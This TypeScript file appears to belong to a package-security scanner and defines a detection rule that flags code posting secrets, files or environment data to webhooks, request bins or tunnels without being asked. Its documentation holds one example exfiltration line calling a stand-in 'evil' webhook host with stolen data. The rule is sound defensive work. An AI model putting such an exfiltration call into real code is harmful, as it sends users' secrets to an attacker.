import {
  hasRandomLabel,
  isAccount,
  isAccountService,
  isCollecting,
  isTunnel,
} from '../facts/collecting-places.js';
import { ACCOUNT_HOST } from '../facts/sinks.js';
import type { Sighting } from '../machine/sighting.js';
import { count, type Label } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { type Combination, isUnheard, WHEN } from './combination.js';
import { leaves } from './leaving.js';

/** What is not the code's own. */
const NOT_OWN: readonly Label[] = [
  'parameter',
  'file',
  'secret',
  'environment',
  'process-output',
  'intercepted',
];

/** Whether a request carries something, and does not only ask: `urlopen` signs in by a `Request` alone, which says so. */
const writes = ({ name, text }: Sighting): boolean =>
  /\.(?:post|put|patch|request|urlopen)$/.test(name) || (name.endsWith('.Request') && /\s/.test(text ?? ''));

/** What connects to any host: the library of a service with accounts is none of these. */
const ANY_HOST = /(?:^|\.)(?:socket|ssl|httplib|http_client|http\.client|HTTPS?Connection)\./;

export const dropContacted: Combination = {
  doc: {
    id: 'drop-contacted',
    title: 'Posts to a collecting address without being asked',
    why: 'Chat webhooks, bot interfaces and request bins are where stolen data is collected, because anybody can open one.',
    remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
    example: 'requests.post("https://webhook.site.evil.invalid/…", data=found)',
    technique: 'T1567.004',
  },
  judge: (sighting) => {
    const address = `${sighting.text ?? ''} ${sighting.host ?? ''}`;
    if (!leaves(sighting)) return undefined;
    const isOfAccount = sighting.host === ACCOUNT_HOST && !ANY_HOST.test(sighting.name);
    if (isAccount(address) || isOfAccount) return 'CRITICAL';
    const { host, labels, reach } = sighting;
    if (isCollecting(address)) {
      if (isUnasked(reach)) return 'CRITICAL';
      return isTunnel(sighting.text ?? '') && labels.has('parameter') ? 'MEDIUM' : 'LOW';
    }
    if (
      isAccountService(sighting.text ?? '') &&
      writes(sighting) &&
      labels.has('own-account') &&
      count(labels, NOT_OWN) > 0
    )
      return isUnasked(reach) || isUnheard(sighting) ? 'CRITICAL' : 'HIGH';
    return host !== undefined && isUnasked(reach) && hasRandomLabel(host) ? 'CRITICAL' : undefined;
  },
  message: ({ name, reach }) => `${name} posts to a collecting address ${WHEN[reach]}`,
};
